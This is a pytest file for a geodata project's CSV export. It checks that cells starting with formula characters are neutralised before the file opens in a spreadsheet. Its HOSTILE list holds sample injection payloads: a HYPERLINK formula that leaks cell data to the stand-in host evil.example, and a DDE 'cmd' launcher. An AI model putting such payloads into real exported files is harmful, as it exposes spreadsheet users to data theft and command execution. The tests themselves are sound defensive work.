"""CSV the project writes opens in a spreadsheet as data, never as a formula."""

from __future__ import annotations

import csv
import io

import pandas as pd
import pytest

from mali_geo.spreadsheet import neutralise_cell, spreadsheet_safe_csv

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click me")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1",
    "\r=1",
]


@pytest.mark.parametrize("cell", HOSTILE)
def test_formula_cells_are_quoted(cell: str) -> None:
    assert neutralise_cell(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["-3.5", "+12", "-0.25e3", "Gao", "", "MNLA; Ansar Dine", "a=b"])
def test_numbers_and_plain_text_are_unchanged(cell: str) -> None:
    assert neutralise_cell(cell) == cell


def test_csv_round_trip_keeps_every_row_and_numbers() -> None:
    frame = pd.DataFrame(
        {
            "place": ["Gao", HOSTILE[0], None],
            "lon": [-0.04, 1.5, -3.2],
            "note": ["-5", "@x", "ok"],
        }
    )
    rows = list(csv.DictReader(io.StringIO(spreadsheet_safe_csv(frame))))
    assert [r["place"] for r in rows] == ["Gao", "'" + HOSTILE[0], ""]
    assert [r["lon"] for r in rows] == ["-0.04", "1.5", "-3.2"]
    assert [r["note"] for r in rows] == ["-5", "'@x", "ok"]
    assert not any(v.startswith(("=", "+", "@")) for r in rows for v in r.values())


def test_long_cells_are_handled_in_linear_time() -> None:
    cell = "-" + "1" * 200_000 + "x"
    assert neutralise_cell(cell).startswith("'-")
